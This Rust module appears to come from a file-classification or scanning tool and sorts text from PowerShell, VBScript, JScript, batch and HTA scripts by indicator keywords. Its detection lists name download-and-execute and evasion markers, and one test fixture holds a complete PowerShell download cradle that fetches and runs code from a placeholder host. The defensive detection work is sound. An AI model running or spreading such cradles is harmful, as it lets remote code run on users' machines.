//! Text and scripts by content: the interpreters a user's machine would hand
//! the file to. Scripts are told from prose by indicators that prose does
//! not use; one indicator is never enough, so a mail that mentions
//! `Invoke-WebRequest` stays text.

use super::{FileType, known};

/// How much of a file is read to classify text.
const WINDOW: usize = 16 << 10;

/// Classifies bytes that infer did not recognise (or called text).
pub(crate) fn classify_text(data: &[u8]) -> FileType {
    let head = &data[..data.len().min(WINDOW)];
    let (text, utf16) = match decode(head) {
        Some(t) => t,
        None => return known::DATA,
    };
    let lower = text.to_ascii_lowercase();
    if let Some(t) = script_type(&lower) {
        return t;
    }
    let trimmed = lower.trim_start_matches('\u{feff}').trim_start();
    if trimmed.starts_with("<!doctype html")
        || trimmed.starts_with("<html")
        || (trimmed.starts_with('<') && (lower.contains("<body") || lower.contains("<head")))
    {
        return known::HTML;
    }
    if trimmed.starts_with("<?xml") || trimmed.starts_with("<svg") {
        return known::XML;
    }
    if (trimmed.starts_with('{') || trimmed.starts_with('['))
        && looks_like_json(trimmed, head.len() < data.len())
    {
        return known::JSON;
    }
    if utf16 {
        known::UTF16_TEXT
    } else {
        known::TEXT
    }
}

/// Text as a string when the bytes are text: UTF-8 (a sequence cut at the
/// window's edge is fine) or UTF-16 with a BOM or with the zero bytes of
/// ASCII in UTF-16. Control characters other than white space are allowed
/// only sparsely.
fn decode(head: &[u8]) -> Option<(String, bool)> {
    if head.len() >= 2 && (head[..2] == [0xff, 0xfe] || head[..2] == [0xfe, 0xff]) {
        return utf16(&head[2..], head[0] == 0xfe).map(|s| (s, true));
    }
    if head.len() >= 8 && head.iter().skip(1).step_by(2).take(32).all(|&b| b == 0) && head[0] != 0 {
        return utf16(head, false).map(|s| (s, true));
    }
    let s = match std::str::from_utf8(head) {
        Ok(s) => s.to_owned(),
        Err(e) if e.error_len().is_none() => {
            String::from_utf8_lossy(&head[..e.valid_up_to()]).into_owned()
        }
        Err(_) => return None,
    };
    mostly_printable(&s).then_some((s, false))
}

fn utf16(b: &[u8], big_endian: bool) -> Option<String> {
    let units = b.chunks_exact(2).map(|c| {
        if big_endian {
            u16::from_be_bytes([c[0], c[1]])
        } else {
            u16::from_le_bytes([c[0], c[1]])
        }
    });
    let s: String = char::decode_utf16(units)
        .map(|r| r.unwrap_or('\u{fffd}'))
        .collect();
    let bad = s.chars().filter(|&c| c == '\u{fffd}').count();
    (bad * 100 <= s.chars().count() && mostly_printable(&s)).then_some(s)
}

fn mostly_printable(s: &str) -> bool {
    let mut total = 0usize;
    let mut control = 0usize;
    for c in s.chars() {
        total += 1;
        if c == '\0' {
            return false;
        }
        if c.is_control() && !matches!(c, '\t' | '\n' | '\r' | '\x0c' | '\x1b') {
            control += 1;
        }
    }
    control * 100 <= total
}

fn looks_like_json(s: &str, cut: bool) -> bool {
    let t = s.trim_end();
    (cut || t.ends_with('}') || t.ends_with(']'))
        && (s.contains("\":") || s.contains("\" :") || s.starts_with("["))
}

fn count(lower: &str, needles: &[&str]) -> usize {
    needles.iter().filter(|n| lower.contains(*n)).count()
}

/// The script type of a text, if its content says so.
fn script_type(lower: &str) -> Option<FileType> {
    let body = lower.trim_start_matches('\u{feff}').trim_start();
    if body.starts_with("#!") {
        let line = body.lines().next().unwrap_or("");
        return Some(if line.contains("python") {
            known::PYTHON
        } else if line.contains("sh") {
            known::SHELL
        } else {
            known::SCRIPT
        });
    }
    if lower.contains("<hta:application") {
        return Some(known::HTA);
    }
    let first = body.lines().next().unwrap_or("").trim();
    if first.starts_with("@echo off") || first.starts_with("@echo on") || first == "echo off" {
        return Some(known::BATCH);
    }
    let ps = count(
        lower,
        &[
            "invoke-expression",
            "iex(",
            "iex (",
            "new-object ",
            "net.webclient",
            "downloadstring(",
            "downloadfile(",
            "invoke-webrequest",
            "start-process",
            "-encodedcommand",
            "$env:",
            "[system.",
            "[convert]::",
            "frombase64string",
            "set-executionpolicy",
            "add-type",
            "write-host",
            "get-childitem",
            "foreach-object",
            "where-object",
            "$psscriptroot",
            "-windowstyle hidden",
            "param(",
            "[cmdletbinding",
            "$null",
            "-bypass",
        ],
    );
    let ps_syntax = lower.contains("$") && (lower.contains(" = ") || lower.contains("| "));
    if ps >= 3 || (ps >= 2 && ps_syntax) {
        return Some(known::POWERSHELL);
    }
    let wsh = count(
        lower,
        &[
            "wscript.",
            "createobject(",
            "activexobject",
            "wscript.shell",
            "shell.application",
            "scripting.filesystemobject",
        ],
    );
    let vbs = count(
        lower,
        &[
            "on error resume next",
            "\ndim ",
            "\nset ",
            "end sub",
            "end function",
            "end if",
            "msgbox",
            "& vbcrlf",
            "executeglobal",
            "execute(",
            "chr(",
            "\nsub ",
        ],
    );
    let js = count(
        lower,
        &[
            "var ",
            "function(",
            "function ",
            "new activexobject",
            "eval(",
            "};",
            "\");",
            "';",
        ],
    );
    if wsh >= 1 && lower.contains("activexobject") && js >= 2 {
        return Some(known::JSCRIPT);
    }
    if (wsh >= 1 && vbs >= 2) || vbs >= 4 {
        return Some(known::VBSCRIPT);
    }
    if wsh >= 1 && js >= 3 {
        return Some(known::JSCRIPT);
    }
    let bat = body
        .lines()
        .take(200)
        .map(|l| l.trim_start().trim_start_matches('@'))
        .filter(|l| {
            [
                "set ",
                "setlocal",
                "goto ",
                "call ",
                "if exist",
                "if not exist",
                "start ",
                "cmd /c",
                "cmd.exe /c",
                "rem ",
                "del /",
                "reg add",
                "schtasks ",
                "bitsadmin ",
                "certutil ",
                "powershell -",
                "powershell.exe -",
                "exit /b",
                "pause",
            ]
            .iter()
            .any(|k| l.starts_with(k))
                || l.contains("%~dp0")
                || l.starts_with(':')
        })
        .count();
    if bat >= 3 {
        return Some(known::BATCH);
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn prose_mentioning_powershell_stays_text() {
        let t = b"Hi Bob, please don't run Invoke-WebRequest on the server again. Thanks!";
        assert_eq!(classify_text(t), known::TEXT);
    }

    #[test]
    fn download_cradle_is_powershell() {
        let t = b"$c = New-Object Net.WebClient; IEX ($c.DownloadString('http://x/a'))";
        assert_eq!(classify_text(t), known::POWERSHELL);
    }

    #[test]
    fn batch_by_first_line() {
        assert_eq!(
            classify_text(b"@echo off\r\nstart calc.exe\r\n"),
            known::BATCH
        );
    }

    #[test]
    fn utf16_text_is_text() {
        let s: Vec<u8> = "hello world, plain words"
            .encode_utf16()
            .flat_map(|u| u.to_le_bytes())
            .collect();
        assert_eq!(classify_text(&s), known::UTF16_TEXT);
    }

    #[test]
    fn csv_is_text() {
        assert_eq!(classify_text(b"name,amount\nbob,3\nalice,4\n"), known::TEXT);
    }
}
